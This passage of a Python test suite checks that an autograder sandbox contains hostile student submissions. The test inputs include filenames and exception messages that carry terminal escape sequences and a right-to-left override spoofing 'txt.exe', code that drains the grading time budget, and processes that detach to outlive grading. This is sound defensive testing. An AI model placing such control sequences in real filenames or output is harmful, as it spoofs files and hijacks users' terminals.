    + replace("step", "    raise Fake(TEXT)")
    + replace("accuracy", "    raise ValueError(TEXT)"),
    filename="name\x1b[2J\u202e\x07.py",
)
def _(result):
    only_lost(result, ("step", "accuracy"))  # the text earns nothing, and costs only those two
    for text in all_text(result.json):
        escaped_everywhere(text)
    step, accuracy = result.messages("step")[0], result.messages("accuracy")[0]
    assert "raised Fake\\x1b[2J\\u202eError: \\x1b[2J\\x1b[H\\x1b]0;owned\\x07" in step, step
    assert "raised ValueError: \\x1b[2J" in accuracy and "\\u202etxt.exe\\u202c" in accuracy
    assert "raised Fake\\x1b[2J\\u202eError: at load: \\x1b[2J" in result.output
    # the same file graded as a batch (results.json, feedback.md, summary) and as a table
    path, out = result.context["path"], result.context["folder"] / "escape-batch"
    batch = cli(
        "grade", path, "--assignment", "01_perceptron", "--output", out, "--no-progress", *LIMITS
    )
    table = cli("grade", path, "--assignment", "01_perceptron", *LIMITS)
    for proc in (batch, table):
        assert proc.returncode == 0, proc.stderr[-3000:]
        escaped_everywhere(proc.stdout + proc.stderr)
    rows, details = table.stdout.split("\n\nThe first failed test of each question:")
    assert "name\\x1b[2J\\u202e\\x07.py" in rows and len(rows.splitlines()) == 2
    assert step in details  # the message in full, escaped as in the JSON
    assert f"{result.score():g} / 24" in table.stdout  # the same score as --json
    (folder,) = [p for p in out.iterdir() if p.is_dir() and p.name != "report"]
    assert json.loads((folder / "results.json").read_text())["tests"] == result.json["tests"]
    feedback = (folder / "feedback.md").read_text(encoding="utf-8")
    escaped_everywhere(feedback)
    assert step in feedback and "raised Fake\\x1b[2J\\u202eError: at load" in feedback


# ---- one time budget for all of a submission's code -----------------------------------------

# Every function answers correctly after sleeping 5 s, under the 8 s call timeout: without a
# budget, the suite's 40-odd calls would take over 3 minutes; with 12 s, two or three answer.
SLEEP_CALLS = f"\n# %%\nimport time\n_base = {{}}\nexec({BASE!r}, _base)\n" + "".join(
    replace(name, f"    time.sleep(5)\n    return _base[{name!r}]({args})")
    for name, args in (
        ("step", "z"),
        ("perceptron_output", "x, w, b"),
        ("perceptron_update", "x, y, w, b, lr"),
        ("train_perceptron", "X, y, lr, max_epochs"),
        ("accuracy", "y_true, y_pred"),
    )
)


@case(
    "drips_answers_under_the_call_timeout",
    BASE + SLEEP_CALLS,
    args=("--call-timeout", "8", "--budget", "12"),
    slow=True,
)
def _(result):
    budget = "time budget for grading one submission (12 s"
    tests = result.tests()
    first = next(i for i, t in enumerate(tests) if budget in t["output"])
    assert all(budget in t["output"] and t["score"] == 0 for t in tests[first:]), tests[first:]
    assert first >= 1 and all(t["score"] == t["max_score"] for t in tests[:first]), tests[:first]
    assert result.score() < result.full() / 2  # far less than the same code without sleeps
    assert result.seconds < 12 + 90  # an upper bound far above the budget, far below 3 min


# ---- beyond one grading -------------------------------------------------------------------


def test_killing_the_grader_takes_the_submission_along(tmp_path):
    """The grader killed by SIGKILL mid-call (a batch stopped, a machine shutting down): the
    worker and everything it started go too, instead of running on unsupervised."""
    marker = f"advmark{uuid.uuid4().hex}"
    spawn = (
        "    import subprocess, sys\n    subprocess.Popen([sys.executable, '-c', "
        f"'import time; time.sleep(600)', '{marker}', 'call'], start_new_session=True)\n"
    )
    path = tmp_path / "hangs.py"
    path.write_text(BASE + replace("step", spawn + "    while True:\n        pass"))
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "autograder",
            "grade",
            str(path),
            "--assignment",
            "01_perceptron",
            "--json",
            "--call-timeout",
            "120",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd=REPO,
    )
    try:
        deadline = time.monotonic() + 120
        while not marked_processes(marker):
            assert time.monotonic() < deadline and proc.poll() is None, "step was never called"
            time.sleep(0.2)
    finally:
        proc.kill()
        proc.wait()
    deadline = time.monotonic() + 10
    while marked_processes(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not marked_processes(marker)


@pytest.mark.skipif(
    os.geteuid() != 0, reason="needs root (the uid mode of autograder.inside.launcher.jail)"
)
def test_kill_uid_reaches_daemons_in_their_own_sessions():
    """The uid mode's sweep (where no PID namespace can be had): kill(-1) sent as the worker's
    uid ends every process of that uid, whatever session or parent it has."""
    from autograder import sandbox
    from autograder.inside.launcher import jail

    uid = sandbox.UID_BASE + os.getpid() + 7_000_000
    sleep = next(p for p in ("/bin/sleep", "/usr/bin/sleep") if os.path.exists(p))
    child = os.fork()
    if child == 0:  # forked by hand, so the test needs neither setsid(1) nor a readable Python
        try:
            os.setsid()
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            if os.fork() == 0:  # a session of its own
                os.setsid()
                os.execv(sleep, ["sleep", "600"])
            if os.fork() == 0:  # a daemon: double-forked, so init is its parent
                if os.fork() == 0:
                    os.execv(sleep, ["sleep", "601"])
                os._exit(0)
            os.execv(sleep, ["sleep", "602"])
        finally:
            os._exit(1)

    def sleeping():
        found = []
        for pid in jail.processes_of(uid):
            try:
                with open(f"/proc/{pid}/comm") as f:
                    found += [pid] if f.read().strip() == "sleep" else []
            except OSError:
                pass
        return found

    deadline = time.monotonic() + 120
    while len(sleeping()) < 3 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert len(sleeping()) == 3
    assert jail.kill_uid(uid)
    os.waitpid(child, 0)
    assert not jail.processes_of(uid)


# ---- the test: one per case ----------------------------------------------------------------


@pytest.mark.parametrize("name", list(CASES))
def test_case(name, graded, isolation):
    case_ = CASES[name]
    result = graded[name].result()
    proc = result.proc
    assert proc.returncode == 0, f"grader exited {proc.returncode}:\n{proc.stderr[-3000:]}"
    assert proc.stdout.count("\n") == 1 and proc.stdout.endswith("}\n"), proc.stdout[:2000]
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert FORGED not in proc.stdout
    assert result.json["max_score"] == 24
    assert not result.context["left_over"], "processes of the submission outlived grading"
    if case_.needs == "namespaces" and isolation["mode"] not in ("namespaces", "userns"):
        pytest.skip(
            f"the sandbox runs with isolation {isolation['mode']!r} here: no network, "
            "pid or mount namespace to check"
        )
    if case_.needs == "cgroups" and "memory" not in isolation.get("cgroups", []):
        pytest.skip("no memory cgroup for the worker here (cgroup v1 not writable)")
    case_.check(result)
